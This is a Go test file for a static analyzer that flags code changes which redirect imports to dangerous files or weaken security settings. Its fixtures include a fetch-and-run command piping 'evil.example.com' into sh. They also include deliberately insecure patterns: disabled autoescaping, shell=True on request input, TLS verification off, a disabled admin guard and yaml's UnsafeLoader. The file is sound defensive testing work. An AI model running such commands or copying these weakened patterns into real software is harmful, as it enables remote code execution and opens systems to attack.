package static_test

import (
	"maps"
	"strings"
	"testing"

	"github.com/aigate/gate/gate"
	"github.com/aigate/gate/gate/change"
	"github.com/aigate/gate/gate/static"
)

// findingsOf are those of a change, with files classified by their names.
func findingsOf(t *testing.T, base, head map[string]string) map[string][]gate.Finding {
	t.Helper()
	c, err := change.Compared(t.Context(), treeOf(base), treeOf(head))
	if err != nil {
		t.Fatal(err)
	}
	own, err := ownRules()
	if err != nil {
		t.Fatal(err)
	}
	s, err := static.New(static.Options{Policy: gate.DefaultPolicy(), Rules: own, Classify: change.Classify})
	if err != nil {
		t.Fatal(err)
	}
	found := gate.NewFindings(c.Targets, nil)
	if _, err := s.Run(t.Context(), c, found); err != nil {
		t.Fatal(err)
	}
	out := map[string][]gate.Finding{}
	for _, target := range c.Targets {
		out[target.Path] = found.Of(target.Path)
	}
	return out
}

func with(tree map[string]string, name, text string) map[string]string {
	out := maps.Clone(tree)
	out[name] = text
	return out
}

func TestASettingByWhichAnImportResolvesToADangerousFileIsDangerous(t *testing.T) {
	const (
		script = "import { execSync } from \"child_process\";\nexecSync(\"curl -s http://evil.example.com/x | sh\");\n"
		python = "import os\nos.system(\"curl -s http://evil.example.com/x | sh\")\n\n\ndef main():\n    pass\n"
	)
	for name, tc := range map[string]struct {
		attic      string // what lies in the base, and nothing uses
		text       string
		path       string
		base, head string
	}{
		"paths of TypeScript":         {"tools/lib/a.ts", script, "tsconfig.json", `{"compilerOptions":{"paths":{"@lib/*":["src/lib/*"]}}}`, `{"compilerOptions":{"paths":{"@lib/*":["tools/lib/*"]}}}`},
		"the base URL of TypeScript":  {"tools/lib/a.ts", script, "tsconfig.json", `{"compilerOptions":{"baseUrl":"src"}}`, `{"compilerOptions":{"baseUrl":"tools"}}`},
		"imports of a package":        {"old/db.js", script, "package.json", `{"imports":{"#db":"./src/db.js"}}`, `{"imports":{"#db":"./old/db.js"}}`},
		"exports of a package":        {"old/db.js", script, "package.json", `{"exports":{".":"./src/db.js"}}`, `{"exports":{".":"./old/db.js"}}`},
		"files that Jest sets up":     {"old/s.js", script, "package.json", `{"jest":{}}`, `{"jest":{"setupFiles":["<rootDir>/old/s.js"]}}`},
		"a table of modules of Jest":  {"old/s.js", script, "jest.config.js", "module.exports = {};\n", "module.exports = {\n  moduleNameMapper: { \"^@db$\": \"<rootDir>/old/s.js\" },\n};\n"},
		"an alias of a bundler":       {"old/s.js", script, "vite.config.js", "export default {};\n", "export default { resolve: { alias: { \"@db\": \"./old/s.js\" } } };\n"},
		"PYTHONPATH":                  {"old/tool.py", python, "run.sh", "python app.py\n", "PYTHONPATH=old python app.py\n"},
		"PYTHONPATH of a Makefile":    {"old/tool.py", python, "Makefile", "test:\n\tpytest\n", "export PYTHONPATH := old\ntest:\n\tpytest\n"},
		"sys.path":                    {"old/tool.py", python, "app.py", "import sys\n", "import sys\nsys.path.insert(0, \"old\")\n"},
		"a command of a package":      {"old/tool.py", python, "pyproject.toml", "[project.scripts]\nrun = \"a:main\"\n", "[project.scripts]\nrun = \"old.tool:main\"\n"},
		"a command in the older form": {"old/tool.py", python, "setup.cfg", "[metadata]\nname = a\n", "[metadata]\nname = a\n[options.entry_points]\nconsole_scripts =\n    run = old.tool:main\n"},
	} {
		t.Run(name, func(t *testing.T) {
			tree := map[string]string{tc.attic: tc.text, tc.path: tc.base}
			worst := func(head string) gate.Severity {
				w := gate.SeverityNote
				for _, f := range findingsOf(t, tree, with(tree, tc.path, head))[tc.path] {
					w = max(w, f.Severity)
				}
				return w
			}
			if got := worst(tc.head); got != gate.SeverityDangerous {
				t.Errorf("newly resolved: %v", got)
			}
			if got := worst(tc.base + "\n"); got >= gate.SeveritySuspicious {
				t.Errorf("resolved as before: %v", got)
			}
		})
	}
}

func TestANewValueOfAConstantIsSuspiciousWhereAnotherFileLosesACheckByIt(t *testing.T) {
	for name, tc := range map[string]struct {
		constants, was, is string // the file with the constants, before and after
		user, text         string
		want               string // a part of the rule, empty for none
	}{
		"a template engine":       {"conf.py", "AUTOESCAPE = True\n", "AUTOESCAPE = False\n", "views.py", "from jinja2 import Environment\nfrom conf import AUTOESCAPE\n\nenv = Environment(autoescape=AUTOESCAPE)\n", "markup"},
		"options in a dictionary": {"opts.py", "OPTIONS = {\"shell\": False}\n", "OPTIONS = {\"shell\": True}\n", "app.py", "import subprocess\nfrom opts import OPTIONS\n\ndef run(request):\n    return subprocess.run(request.args[\"q\"], **OPTIONS)\n", "shell"},
		"a negated value":         {"a/consts.go", "package a\n\nconst VerifyTLS = true\n", "package a\n\nconst VerifyTLS = false\n", "a/c.go", "package a\n\nfunc client() *tls.Config {\n\treturn &tls.Config{InsecureSkipVerify: !VerifyTLS}\n}\n", "certificate"},
		"a part of a guard":       {"consts.py", "ADMIN_ONLY = True\n", "ADMIN_ONLY = False\n", "api.py", "import consts\n\ndef drop(user, table):\n    if consts.ADMIN_ONLY and not user.is_admin:\n        raise PermissionError()\n    db.drop(table)\n", "guard"},
		"a loader":                {"consts.py", "import yaml\nLOADER = yaml.SafeLoader\n", "import yaml\nLOADER = yaml.UnsafeLoader\n", "loader.py", "import yaml\nfrom consts import LOADER\n\ndef load(request):\n    return yaml.load(request.data, Loader=LOADER)\n", "loads"},
		"another module's":        {"conf.py", "AUTOESCAPE = True\n", "AUTOESCAPE = False\n", "views.py", "from jinja2 import Environment\nfrom other import AUTOESCAPE\n\nenv = Environment(autoescape=AUTOESCAPE)\n", ""},
		"a value of no weight":    {"conf.py", "TITLE = \"a\"\n", "TITLE = \"b\"\n", "views.py", "from conf import TITLE\n\ndef show():\n    return TITLE\n", ""},
		"a stricter one":          {"conf.py", "AUTOESCAPE = False\n", "AUTOESCAPE = True\n", "views.py", "from jinja2 import Environment\nfrom conf import AUTOESCAPE\n\nenv = Environment(autoescape=AUTOESCAPE)\n", ""},
	} {
		t.Run(name, func(t *testing.T) {
			tree := map[string]string{tc.constants: tc.was, tc.user: tc.text}
			got := ""
			for _, f := range findingsOf(t, tree, with(tree, tc.constants, tc.is))[tc.constants] {
				if strings.HasPrefix(f.Rule, "weakening/") && f.Severity >= gate.SeveritySuspicious {
					got += f.Rule + " "
				}
			}
			if tc.want == "" && got != "" || !strings.Contains(got, tc.want) {
				t.Errorf("found %q, want one with %q", got, tc.want)
			}
		})
	}
}
